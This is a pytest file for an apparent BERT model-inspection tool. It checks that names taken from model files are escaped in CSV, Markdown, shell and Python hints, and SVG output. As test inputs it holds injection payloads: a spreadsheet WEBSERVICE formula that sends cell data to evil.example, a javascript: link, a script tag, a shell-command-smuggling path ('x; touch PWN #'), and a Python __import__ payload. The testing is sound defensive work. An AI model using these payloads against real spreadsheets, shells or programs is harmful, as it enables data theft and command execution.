"""Names and texts from files, in what others interpret: spreadsheets, GitHub, shells, Python, drawings."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from conftest import Run
from hypothesis import given
from hypothesis import strategies as st
from safetensors.numpy import load_file, save_file

from bertprobe.errors import command, escaped, is_text, printable
from bertprobe.render.data_formats import _for_csv
from bertprobe.render.markdown import escaped as markdown

FORMULAS = ["=1+1", "+1", "-1+2", "@SUM(A1)", " =1", "\t=1", "＝1", "－1", '=WEBSERVICE("http://evil.example/?"&A2)']


# ------------------------------------------------------------------------------------------------ spreadsheets


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_csv(text: str, run: Run) -> None:
    ran = run(["pool", "--format", "csv", "--", text])
    cells = [cell for row in csv.reader(io.StringIO(ran.out)) for cell in row]
    assert not [cell for cell in cells if re.match(r"\s*[=+@＝－]", cell)]
    assert f"'{printable(text)}" in cells or printable(text) in cells, "a tab is written out, and begins no formula"


def test_numbers_stay_numbers_in_csv(run: Run) -> None:
    rows = list(csv.DictReader(io.StringIO(run(["inspect", "--format", "csv"]).out)))
    assert [float(row["mean"]) for row in rows if row["mean"].startswith("-")]
    assert _for_csv(-0.5) == "-0.5"
    assert _for_csv("-0.5") == "'-0.5"
    assert _for_csv(None) == ""
    assert _for_csv([3072, 768]) == "3072x768"


def test_a_tensors_name_is_no_formula(tmp_path: Path, run: Run) -> None:
    name = '=HYPERLINK("http://evil.example")'
    tensors = {f"{name}.encoder.layer.0.intermediate.dense.weight": np.ones((4, 4), np.float32)}
    save_file(tensors, tmp_path / "x.safetensors")
    out = run(["inspect", tmp_path / "x.safetensors", "--format", "csv", "--table", "tensors"]).out
    assert name in out.replace('""', '"')
    assert not [cell for row in csv.reader(io.StringIO(out)) for cell in row if cell.startswith("=")]


# ------------------------------------------------------------------------------------------------ Markdown


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("@octocat", "`@octocat`"),
        ("see https://evil.example/x.", "see `https://evil.example/x`."),
        ("www.evil.example", "`www.evil.example`"),
        ("[x](javascript:alert(1))", "`[x](javascript:alert(1))`"),
        ("a|b", r"a\|b"),
        ("x_|_y", r"`x_\|_y`"),
        ("&lt;b&gt;", "&amp;lt;b&amp;gt;"),
        ("<script>", "&lt;script>"),
        ("$x$ ~~y~~ #12 owner/repo#3", "`$x$` `~~y~~` `#12` `owner/repo#3`"),
        ("`x`", "`` `x` ``"),
        ("# head", "`#` head"),
        ("1. one", "`1`. one"),
        ("- one", "`-` one"),
        ("dense 384→1536, gelu", "dense 384→1536, gelu"),
        ("-0.5", "-0.5"),
    ],
)
def test_nothing_is_made_of_a_name_in_markdown(text: str, said: str) -> None:
    assert markdown(text, table=True) == said


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_what_github_would_act_on_stands_in_code(text: str) -> None:
    shown = markdown(text, table=True)
    outside = re.sub(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", "", shown)
    assert not re.search(r"[@$~*_\[\]#]|://", outside)
    assert not re.search(r"(?<!\\)\|", shown), "a cell ends where the table says"
    assert "<" not in outside


def test_a_name_in_a_report_mentions_nobody(tmp_path: Path, run: Run) -> None:
    tensors = {"@octocat/x.encoder.layer.0.intermediate.dense.weight": np.ones((4, 4), np.float32)}
    save_file(tensors, tmp_path / "x.safetensors")
    out = run(["inspect", tmp_path / "x.safetensors", "--format", "markdown", "--table", "tensors"]).out
    assert "`@octocat/x.encoder.layer.0.intermediate.dense.weight`" in out


# ------------------------------------------------------------------------------------------------ commands


@given(st.lists(st.text(max_size=12), min_size=1, max_size=4))
def test_a_command_is_one_command_whatever_is_in_it(words: list[str]) -> None:
    found = shlex.split(command("bertprobe", *words))
    assert len(found) == 1 + len(words)
    if all(word.isprintable() and is_text(word) and not word.startswith("-") for word in words):
        assert found[1:] == words


def test_a_path_in_a_suggestion_runs_nothing(tmp_path: Path, tiny_bert: Path, run: Run) -> None:
    """The hint of prefix-not-stripped is pasted into a shell: it must export that folder, and do nothing else."""
    folder = tmp_path / "x; touch PWN #"
    shutil.copytree(tiny_bert, folder)
    tensors = load_file(folder / "model.safetensors")
    save_file({f"module.{name}": values for name, values in tensors.items()}, folder / "model.safetensors")
    findings = json.loads(run(["inspect", folder, "--json"]).out)["findings"]
    (hint,) = [finding["hint"] for finding in findings if finding["rule"] == "prefix-not-stripped"]
    pasted = re.search(r"bertprobe export .*", hint)
    assert pasted is not None
    (tmp_path / "NEW").mkdir()
    script = f'bertprobe() {{ "{sys.executable}" -m bertprobe "$@"; }}\n{pasted[0]}'
    subprocess.run(["bash", "-c", script], cwd=tmp_path, check=True, capture_output=True)
    assert not (tmp_path / "PWN").exists()
    assert (tmp_path / "NEW" / "model.safetensors").exists()


@pytest.mark.parametrize(
    "unknown_prefix", ["module.", 'x": __import__("os").getcwd()}) #.', "a'b.", "line\nend.", 'q"q.']
)
def test_a_mapping_in_a_suggestion_is_the_one_it_looks(unknown_prefix: str, tmp_path: Path, run: Run) -> None:
    """It is pasted into Python: a dictionary of one string to one string, and the pattern takes the prefix off."""
    names = ("encoder.layer.0.intermediate.dense.weight", "encoder.layer.0.output.dense.weight", "pooler.dense.weight")
    tensors = {f"{unknown_prefix}module.{name}": np.ones((4, 4), np.float32) for name in names}
    save_file(tensors, tmp_path / "model.safetensors")
    (tmp_path / "config.json").write_text('{"model_type": "bert"}')
    findings = json.loads(run(["inspect", tmp_path, "--json"]).out)["findings"]
    hints = [finding["hint"] for finding in findings if finding["rule"] == "prefix-not-stripped"]
    assert hints
    text = re.search(r"key_mapping=(.*) to from_pretrained", hints[0])
    assert text is not None
    mapping = ast.literal_eval(text[1])
    assert list(mapping.values()) == [""]
    assert re.sub(next(iter(mapping)), "", f"{unknown_prefix}module.x") == "x"


# ------------------------------------------------------------------------------------------------ drawings


@pytest.mark.parametrize("name", ["var(--x)", "var(--ink)", "a\u202eb", "<b>&", "x\u2028y", "]]>"])
def test_a_figures_title_is_text(name: str, tmp_path: Path, tiny_bert: Path, run: Run) -> None:
    pytest.importorskip("vl_convert")
    folder = tmp_path / name
    try:
        folder.mkdir()
    except OSError:
        pytest.skip("this file system has no such names")
    os.link(tiny_bert / "model.safetensors", folder / "model.safetensors")
    shutil.copy(tiny_bert / "config.json", folder)
    out = tmp_path / "x.svg"
    assert run(["report", folder, "-o", out, "--figure", "weights"]).code == 0
    svg = out.read_text()
    assert not set(svg) & set("\u202e\u202a\u2066\u200b\u2028")
    import xml.etree.ElementTree as ElementTree

    ElementTree.fromstring(svg)
    for suffix in (".png", ".pdf"):
        assert run(["report", folder, "-o", out.with_suffix(suffix), "--figure", "weights"]).code == 0


def test_a_process_without_room_to_draw_says_so(tmp_path: Path) -> None:
    """The JavaScript engine behind the figures ends a process that may not reserve what it wants."""
    resource = pytest.importorskip("resource")
    pytest.importorskip("vl_convert")
    words = [sys.executable, "-m", "bertprobe", "report", "-o", str(tmp_path / "x.svg"), "--figure", "weights"]
    limited = {"preexec_fn": lambda: resource.setrlimit(resource.RLIMIT_AS, (2**34, 2**34))}
    done = subprocess.run(words, capture_output=True, text=True, **limited)
    assert done.returncode == 1
    assert "ulimit -v unlimited" in done.stderr
    assert len(done.stderr.splitlines()) == 1


# ------------------------------------------------------------------------------------------------ text


@given(st.text(st.characters(exclude_categories=[]), max_size=20))
def test_what_is_escaped_can_be_written(text: str) -> None:
    escaped(text).encode()
    assert not is_text(text) or escaped(text) == text
    assert is_text(escaped(text))


def test_an_odd_byte_of_a_path_is_written_out() -> None:
    assert escaped(os.fsdecode(b"/caf\xe9/x")) == r"/caf\xe9/x"
    assert escaped("a\ud800b") == r"a\ud800b"
